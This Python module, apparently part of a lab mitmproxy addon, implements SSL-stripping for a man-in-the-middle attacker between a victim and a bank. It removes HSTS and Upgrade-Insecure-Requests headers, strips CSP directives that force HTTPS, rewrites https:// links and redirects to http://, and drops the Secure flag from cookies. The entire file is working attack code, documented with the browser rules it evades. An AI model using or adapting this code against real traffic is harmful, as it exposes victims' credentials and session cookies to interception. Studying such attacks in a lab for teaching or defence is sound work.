"""The SSL-stripping rewrites: plain functions on header values and bodies.

An attacker between the victim and the bank keeps the victim on http:// by
turning every https:// it can see into http://, and by removing whatever
would make the browser insist on HTTPS or refuse a cookie over plain HTTP.
Nothing here touches the network; the mitmproxy addon applies these.
"""

import re

# Strict-Transport-Security is honoured only from secure responses (RFC 6797
# 8.1), so it is the response's header that must go (F13): the victim never
# sees it over the stripped connection and never notes the bank as HSTS host.
DROP_FROM_RESPONSE = frozenset({"strict-transport-security"})

# The header by which a browser says it prefers HTTPS (Upgrade Insecure
# Requests, section 3.2.1): a bank that honours it would redirect to HTTPS.
DROP_FROM_REQUEST = frozenset({"upgrade-insecure-requests"})

# CSP directives that make the browser fetch or block on HTTPS by itself.
CSP_UPGRADE_DIRECTIVES = frozenset(
    {"upgrade-insecure-requests", "block-all-mixed-content"}
)

# The lookbehind keeps "git+https://" (another scheme, RFC 3986 3.1) alone.
# The slashes may be JSON-escaped ("https:\/\/"); they are kept as found.
# The host is optional so that script building a URL from parts
# ("https://" + location.host) is downgraded too.
HTTPS_URL = re.compile(
    r"(?<![A-Za-z0-9+.-])https:(?P<slashes>//|\\/\\/)"
    r"(?:(?P<host>\[[0-9A-Fa-f:.]+\]|[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*)"
    r"(?::(?P<port>[0-9]+))?)?",
    re.IGNORECASE,
)

TEXT_TYPES = re.compile(
    r"^(?:text/|application/(?:[\w.+-]*\+)?(?:json|xml)\b"
    r"|application/(?:x-)?(?:javascript|ecmascript)\b)",
    re.IGNORECASE,
)

COOKIE_PREFIXES = ("__host-", "__secure-")


def _downgrade(match: re.Match[str]) -> str:
    """The http:// form of one matched https:// URL start."""
    host, port = match["host"] or "", match["port"]

    # 443 is only the https default: kept, it would send the victim's
    # browser to port 443 in plain text (F13). Other ports stay as given.
    if port is not None and int(port) != 443:
        host = f"{host}:{port}"
    return f"http:{match['slashes']}{host}"


def strip_urls(text: str) -> tuple[str, set[str]]:
    """Turn every https:// URL in a body into http://; also say which hosts.

    A non-default port is kept as it is (`https://h:8443/` becomes
    `http://h:8443/`): there is no plain-HTTP port to guess for it, and the
    lab's names only use the default ports.
    """
    hosts: set[str] = set()

    def downgrade_and_note(match: re.Match[str]) -> str:
        if match["host"]:
            hosts.add(match["host"].lower())
        return _downgrade(match)

    return HTTPS_URL.sub(downgrade_and_note, text), hosts


def strip_location(value: str) -> str:
    """Downgrade an absolute https:// Location; a relative one stays as is."""
    match = HTTPS_URL.match(value)
    if match is None:
        return value
    return _downgrade(match) + value[match.end() :]


def cookie_name(value: str) -> str:
    """The name of the cookie a Set-Cookie value sets."""
    return value.split(";", 1)[0].split("=", 1)[0].strip()


def cookie_is_prefixed(value: str) -> bool:
    """Whether a Set-Cookie value names a `__Host-` or `__Secure-` cookie.

    A browser rejects such a cookie without Secure (RFC 6265bis 4.1.3), so
    stripping Secure from it only loses it: the prefix is the defence.
    Current browsers match the prefixes whatever their case.
    """
    return cookie_name(value).lower().startswith(COOKIE_PREFIXES)


def _attribute(attribute: str) -> tuple[str, str]:
    """The lower-case name and the value of one `Name=value` cookie attribute."""
    name, _, value = attribute.partition("=")
    return name.strip().lower(), value.strip()


def strip_set_cookie(value: str) -> str:
    """Drop Secure from a Set-Cookie value and relax SameSite=None to Lax.

    Secure counts whatever its case, spacing or value (RFC 6265 5.2.5).
    Browsers reject SameSite=None without Secure (F12), so it becomes Lax,
    which a top-level navigation still carries. Prefixed cookies are left
    unchanged: see `cookie_is_prefixed`.
    """
    if cookie_is_prefixed(value):
        return value

    pair, *attributes = value.split(";")
    kept = [pair]
    for attribute in attributes:
        name, setting = _attribute(attribute)
        if name in ("secure", ""):
            continue
        if name == "samesite" and setting.lower() == "none":
            indent = attribute[: len(attribute) - len(attribute.lstrip())]
            attribute = f"{indent}SameSite=Lax"
        kept.append(attribute)
    return ";".join(kept)


def strip_csp(value: str) -> str | None:
    """Remove the HTTPS-forcing directives from a CSP value; None if empty.

    The value is a comma-separated list of policies, each a list of
    directives split on ";" whose names are case-insensitive (CSP3 2.2).
    """
    policies = []
    for policy in value.split(","):
        directives = [
            directive.strip()
            for directive in policy.split(";")
            if directive.strip()
            and directive.split()[0].lower() not in CSP_UPGRADE_DIRECTIVES
        ]
        if directives:
            policies.append("; ".join(directives))
    return ", ".join(policies) or None


def is_text(content_type: str) -> bool:
    """Whether a Content-Type names a body whose links are worth rewriting."""
    return TEXT_TYPES.match(content_type.strip()) is not None
